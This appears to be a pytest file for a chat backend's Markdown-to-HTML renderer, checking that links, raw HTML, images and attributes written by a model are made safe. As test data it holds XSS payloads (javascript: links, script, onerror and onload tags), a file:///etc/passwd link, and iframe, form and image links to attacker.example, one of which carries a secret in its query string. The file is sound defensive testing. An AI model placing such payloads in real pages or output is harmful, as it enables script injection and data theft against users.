"""Markdown from a model, as HTML that is safe to show."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from backend.chat.rendering import to_html, to_text


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("It is **here** [1].", "<p>It is <strong>here</strong> [1].</p>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>'),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("```python\nx = 1\n```", "<pre><code>x = 1\n</code></pre>"),
        ("> so", "<blockquote>\n<p>so</p>\n</blockquote>"),
    ],
)
def test_markdown_becomes_html(markdown: str, html: str) -> None:
    assert to_html(markdown).strip() == html


def test_tables_are_shown() -> None:
    html = to_html("| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<table>" in html
    assert "<td>2</td>" in html


@pytest.mark.parametrize("address", ["https://textbook.example/docs", "http://textbook.example"])
def test_a_link_leads_to_the_web_and_hides_where_it_came_from(address: str) -> None:
    assert to_html(f"[book]({address})") == (
        f'<p><a href="{address}" rel="noopener noreferrer">book</a></p>\n'
    )


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "<javascript:alert(1)>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/png;base64,aGk=",
        "vbscript:x",
        "file:///etc/passwd",
        "mailto:somebody@mail.example",
    ],
)
def test_any_other_link_leads_nowhere(address: str) -> None:
    for markdown in (f"[book]({address})", f"<{address}>", f"[book][b]\n\n[b]: {address}"):
        assert "href" not in to_html(markdown)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<b onclick=alert(1)>bold</b>",
        "<iframe src='https://attacker.example'></iframe>",
        "<style>p { display: none }</style>",
        "<svg/onload=alert(1)>",
        "<!-- hidden -->",
        "<form action=https://attacker.example><input>",
    ],
)
def test_html_in_markdown_is_shown_as_text(html: str) -> None:
    for markdown in (html, f"before {html} after", f"- {html}", f"**{html}**"):
        rendered = to_html(markdown)
        tags = set(re.findall(r"</?(\w+)", rendered))
        assert tags <= {"p", "ul", "li", "strong"}
        assert html.split(maxsplit=1)[0].replace("<", "&lt;").replace(">", "&gt;") in rendered


def test_what_the_parser_lets_through_by_mistake_is_still_cleaned(monkeypatch: pytest.MonkeyPatch) -> None:
    class Careless:
        def render(self, markdown: str) -> str:
            return markdown

    monkeypatch.setattr("backend.chat.rendering._parser", Careless)
    sent = "<p onclick=x style=y class=z>a<script>b</script><img src=c><a href='javascript:d'>e</a></p>"
    assert to_html(sent) == '<p>a<a rel="noopener noreferrer">e</a></p>'


def test_pictures_are_left_out() -> None:
    assert to_html("![seen](https://attacker.example/p.png?q=secret)").strip() == "<p></p>"


class Attributes(HTMLParser):
    """Collects the names of all attributes, as a browser would read them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names |= {name for name, _ in attrs}


@pytest.mark.parametrize(
    "markdown",
    [
        '[a](https://textbook.example "x\\" onmouseover=\\"alert(1)")',
        '[a](https://textbook.example/"onclick="alert(1))',
        "[a](https://textbook.example/'onclick='alert(1))",
        "```js onclick=alert(1)\nx\n```",
    ],
)
def test_attributes_cannot_be_smuggled_in(markdown: str) -> None:
    assert Attributes(to_html(markdown)).names <= {"href", "rel", "title"}


def test_a_quotation_is_shown_without_the_marks_of_markdown() -> None:
    assert to_text("A *robot* & `x < y`, see [this](https://book.example).\n\n- one").split() == [
        *("A", "robot", "&", "x", "<", "y,", "see", "this.", "one")
    ]
